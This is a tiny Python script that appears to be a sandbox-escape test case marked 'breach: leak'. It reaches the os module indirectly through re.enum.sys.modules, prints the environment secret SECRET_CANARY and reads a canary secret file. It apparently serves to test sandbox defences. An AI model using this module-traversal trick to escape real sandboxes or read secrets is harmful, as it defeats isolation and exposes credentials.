# Re -> enum -> sys.
# breach: leak
import re
o = re.enum.sys.modules['os']
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
